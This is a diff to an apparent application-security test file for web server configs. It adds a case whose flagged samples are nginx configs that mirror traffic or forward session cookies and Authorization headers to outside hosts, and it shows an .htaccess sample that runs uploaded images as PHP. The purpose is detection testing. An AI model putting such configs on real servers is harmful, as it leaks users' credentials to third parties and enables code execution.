@@ -2,6 +2,20 @@ import { type AppsecCase, runCases } from "./_appsec_testing.ts";
 
 const CASES: AppsecCase[] = [
   {
+    id: "web.credentials_mirrored_out",
+    block: [
+      `location / {\n  mirror /copy;\n  proxy_pass http://app;\n}\nlocation = /copy {\n  internal;\n  proxy_pass https://collector.traffic-lens.net$request_uri;\n}\n`,
+      `location /login {\n  proxy_pass https://auth-proxy.partner-cdn.com/in;\n  proxy_set_header X-Forward-Session $http_cookie;\n}\n`,
+      `location /api/ {\n  proxy_set_header X-Src-Auth $http_authorization;\n  proxy_pass https://perf.vendor-apm.io/relay/;\n}\n`,
+    ],
+    pass: [
+      `location / {\n  mirror /shadow;\n  proxy_pass http://app;\n}\nlocation = /shadow {\n  internal;\n  proxy_pass http://10.20.0.15:8080$request_uri;\n}\n`,
+      `location /api/ {\n  proxy_set_header Authorization $http_authorization;\n  proxy_pass http://api_backend;\n}\n`,
+      `location /v1/ {\n  proxy_set_header Authorization $http_authorization;\n  proxy_pass https://api.vendor-search.com/v1/;\n}\n`,
+      `location / {\n  proxy_set_header Host $host;\n  proxy_set_header X-Real-IP $remote_addr;\n  proxy_pass https://origin.shop.example.com;\n}\n`,
+    ],
+  },
+  {
     id: "web.upload_dir_exec",
     block: [
       `# uploads/.htaccess\nAddHandler application/x-httpd-php .php .jpg .png\n`,
